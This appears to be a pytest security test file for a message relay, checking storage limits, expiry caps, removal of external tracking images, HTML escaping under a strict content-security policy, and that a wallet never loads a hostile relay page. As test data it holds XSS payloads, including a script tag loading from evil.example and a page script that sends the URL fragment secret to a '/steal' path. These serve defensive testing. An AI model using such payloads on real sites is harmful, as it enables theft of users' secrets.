"""TML-9, TMS-07, TMS-19: the relay as storage, as a place for pictures, and its pages as a trap."""

import pytest
from support.field import MODES, NOTHING, attack
from support.mailbox import Device, configuration, display, page, sealed


#= spec:tigress#TML-9 test
#= spec:tigress#TMS-07 test
@attack("the relay is used as free storage", "TML-9", "TMS-07")
def test_free_storage(field, table):
    eve = Device(field.real_relay)
    assert eve.create(sealed(64 * 1024 + 1)).status == 413
    assert eve.create(display_information=display("x" * 2000)).status == 413
    kept = eve.create(sealed(60 * 1024), configuration=configuration(seconds=400 * 24 * 3600))
    days = (parse(kept.json()["expiration"]) - parse(configuration(seconds=0)["expiration"])).days
    assert days <= 30, "a deadline is set, and no call prolongs it"
    for _ in range(3):
        assert eve.update(kept, sealed(1024)).status in (200, 401)
    assert eve.read(kept).json()["expiration"] == kept.json()["expiration"]
    assert Device(field.real_relay).read(kept).status == 200, "one reader, not the world:"
    assert Device(field.real_relay).read(kept).json()["error"] == "claimed"
    table.note("immediate", NOTHING)


@attack("pictures are published by the relay", "TMS-07")
def test_pictures(field, table):
    made = Device(field.real_relay).create(display_information=display(image="https://evil.example/track.png"))
    shown = page(field.real_relay, made).text
    assert "evil.example" not in shown
    table.note("immediate", NOTHING)


#= spec:tigress#TMS-19 test
@attack("the sender's text on the preview page is a script", "TMS-19")
def test_a_script_as_title(field, table):
    script = '<script src="https://evil.example/x.js">location.hash</script>'
    answer = page(field.real_relay, Device(field.real_relay).create(display_information=display(script, f'"{script}')))
    assert "<script" not in answer.text and "&lt;script" in answer.text
    policy = answer.headers["content-security-policy"]
    assert "default-src 'none'" in policy and "script-src" not in policy and "unsafe" not in policy
    table.note("immediate", NOTHING)


@attack("a hostile relay serves a page that reads the secret", "TMS-19", "TML-8")
@pytest.mark.parametrize("mode", MODES)
def test_a_hostile_page(field, table, mode):
    given, bob = field.give(mode), field.wallet("bob", "Bob's phone")
    field.relay.seen.clear()

    def serve_a_trap(exchange):
        if exchange.method in ("GET", "HEAD"):
            exchange.status, exchange.answer = 200, b"<script>fetch('/steal?' + location.hash)</script>"

    field.relay.before = serve_a_trap
    assert field.take_honestly(given, bob)
    spoken = [exchange.octets() for exchange in field.relay.seen]
    assert not any(exchange.method == "GET" for exchange in field.relay.seen), "the wallet opens no page"
    assert not any(given.link.split("#")[1].encode() in octets for octets in spoken)
    loss = field.loss(given, friend=bob)
    assert loss == NOTHING
    table.note(mode, loss)


def parse(text):
    import datetime
    return datetime.datetime.strptime(text, "%Y-%m-%dT%H:%M:%SZ")
